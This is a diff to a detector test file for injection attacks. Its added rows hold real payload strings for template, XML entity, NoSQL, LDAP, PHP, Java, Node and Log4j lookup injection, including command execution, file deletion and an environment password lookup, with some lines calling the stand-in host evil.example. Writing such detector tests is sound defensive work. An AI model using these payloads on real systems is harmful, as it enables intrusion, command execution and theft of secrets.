@@ -155,6 +155,12 @@ const attacks: Readonly<Record<string, readonly Row[]>> = {
     ['backticks of Ruby', '<%= `id` %>'],
     ['an object of Smarty', '{$smarty.version}'],
     ['Perl', "@{[system 'id']}"],
+    ['FreeMarker in brackets', '[=6*8]'],
+    ['a function of Go', '{{ urlquery "x" }}'],
+    ['from the request to the server', '{{ request.environ }}'],
+    ['a text bound in Handlebars', '{{#with "a" as |b|}}'],
+    ['a file of Velocity', '#evaluate("x")'],
+    ['an assignment of OGNL', '%{(#q=9)}'],
   ],
   XmlEntities: [
     ['an external entity', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///srv/x">]>'],
@@ -163,6 +169,9 @@ const attacks: Readonly<Record<string, readonly Row[]>> = {
     ['an external type', '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd">'],
     ['UTF-7', '+ADwAIQ-ENTITY a SYSTEM +ACI-x+ACI-+AD4-'],
     ['a style sheet from outside', '<xsl:include href="http://evil.example/x.xsl"/>'],
+    ['a declaration', '<!ATTLIST a b CDATA "c">'],
+    ['an inner part of a type', '<!DOCTYPE a ['],
+    ['an inclusion, cut', '<xi:include parse="text"'],
     ['XInclude', '<a xmlns:xi="http://www.w3.org/2001/XInclude"/>'],
   ],
   NoSql: [
@@ -176,6 +185,9 @@ const attacks: Readonly<Record<string, readonly Row[]>> = {
     ['a condition on the document', 'this.pw.length > 0'],
     ['code in a condition', "' || this.pw.length==8 || 'a'=='b"],
     ['a statement of the shell', 'db.users.drop()'],
+    ['a lookup through three tables', 'owner__team__lead__name__istartswith', 'name'],
+    ['a lookup of a secret', 'owner__password__regex', 'name'],
+    ['a lookup of keys', 'settings__has_any_keys', 'name'],
   ],
   Ldap: [
     ['a filter closed and another opened', '*)(uid=*))(|(uid=*'],
@@ -184,6 +196,8 @@ const attacks: Readonly<Record<string, readonly Row[]>> = {
     ['a filter that all meet', '(objectClass=*)'],
     ['a filter ended', 'eve)\0'],
     ['a filter of one\u2019s own', '(&(cn=a)(x=b))'],
+    ['a filter with spaces', 'eve) ( | '],
+    ['a parenthesis alone', ')'],
   ],
   Php: [
     ['a tag', '<?php echo 1;'],
@@ -198,12 +212,25 @@ const attacks: Readonly<Record<string, readonly Row[]>> = {
     ['a call through a variable', '$f(1)'],
     ['a serialized object', 'O:3:"Foo":1:{s:1:"a";i:1;}'],
     ['a setting', 'allow_url_include=1'],
+    ['a function of an extension, cut', 'pcntl_signal ('],
+    ['a method that PHP calls', 'App\\Job::__invoke'],
+    ['a function to be called', 'call_user_func'],
+    ['a file that is removed', "unlink('x');"],
+    ['a command in backticks', 'echo `id`;'],
+    ['a variable of its own', '${_SERVER}'],
+    ['joined to a text', '".phpinfo()."'],
+    ['a command in a pair', 'q=passthru(id)'],
   ],
   Java: [
     ['a class', 'java.lang.Runtime'],
     ['a stream of objects in base64', 'rO0ABXNyABFqYXZh'],
     ['a call of the runtime', 'x.getRuntime().exec("id")'],
     ['OGNL', '(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)'],
+    ['a class by its name', 'org.apache.tomcat', 'cookie'],
+    ['what starts programs, in a package', 'java.some.ProcessBuilder', 'name'],
+    ['a driver that runs a script', 'jdbc:h2:mem:a;INIT=CREATE ALIAS b AS c'],
+    ['a driver that reads objects', 'jdbc:mysql://db.example/a?autoDeserialize=true'],
+    ['a driver that makes an object', 'jdbc:postgresql://a/?socketFactory=org.example.A'],
     ['the class loader by parameters', 'class.module.classLoader.resources', 'name'],
   ],
   Node: [
@@ -214,6 +241,12 @@ const attacks: Readonly<Record<string, readonly Row[]>> = {
     ['the main module', "process.mainModule.require('fs')"],
     ['a module that runs commands', "require('child_process').exec('id')"],
     ['the constructor of functions', "a.constructor.constructor('return 1')()"],
+    ['a file that is read', "fs.readFile('/srv/x')"],
+    ['a command that is run', "spawnSync('id')"],
+    ['the process tells of itself', 'process.env.HOME'],
+    ['a module alone', "require('worker_threads')"],
+    ['the prototype in a document', '{"__proto__":{"admin":true}}'],
+    ['the prototype of all objects', 'Object.prototype.admin'],
     ['a loop without an end', 'while(true);'],
   ],
   LogLookup: [
@@ -221,6 +254,8 @@ const attacks: Readonly<Record<string, readonly Row[]>> = {
     ['a lookup of the machine', '${sys:user.name}'],
     ['its name in lower-case lookups', '${${lower:J}ndi:ldap://evil.example/a}'],
     ['its letters as defaults', '${${::-j}${::-n}${::-d}${::-i}:dns://evil.example}'],
+    ['a secret of the environment', '${env:DB_PASSWORD}'],
+    ['a lookup of the cluster', '${k8s:podName}'],
     ['cut off', '${jndi:rmi://evil.example'],
   ],
   HeaderLines: [
@@ -324,6 +359,19 @@ const benign: readonly Row[] = [
   ['a date', '2026-06-10T08:20:30.123Z'],
   ['a user agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0', 'header'],
   ['what a browser accepts', 'text/html,application/xhtml+xml;q=0.9,*/*;q=0.8', 'header'],
+  ['a variable of the environment', 'stage: ${env:STAGE}'],
+  ['a member of a request, in a template', 'Hello {{ request.name }}'],
+  ['a template of a chart', '{{ printf "%s-%s" .Release.Name .Chart.Name }}'],
+  ['a function that somebody looks up', 'array_map'],
+  ['a line of Python', 'print("hello")'],
+  ['prose with code in it', 'Return `true` to print `x`'],
+  ['a filter of a list', 'author__name__icontains', 'name'],
+  ['a column of a neighbour', 'created__date__gte', 'name'],
+  ['a name of GraphQL', '__typename', 'name'],
+  ['a function of SQL, in a name', 'array_length', 'name'],
+  ['a lettered list', 'a) (see below) b) (& others)'],
+  ['a database', 'jdbc:postgresql://db.example:5432/shop?ssl=true'],
+  ['a host by its name', 'java.example.com/runtime'],
   ['a cookie of consent', 'groups=C0001:1,C0002:0&version=1.0', 'cookie'],
 ]
 
@@ -348,5 +396,5 @@ test('base64 hides nothing, whether in a value or in the last segment of a path'
 test('every detector has rows, and every row ran', () => {
   assert.deepEqual(Object.keys(attacks).sort(), detectors.map(({ name }) => name).sort())
   const rows = Object.values(attacks).flat().length
-  assert.deepEqual([rows, benign.length], [193, 84])
+  assert.deepEqual([rows, benign.length], [228, 97])
 })
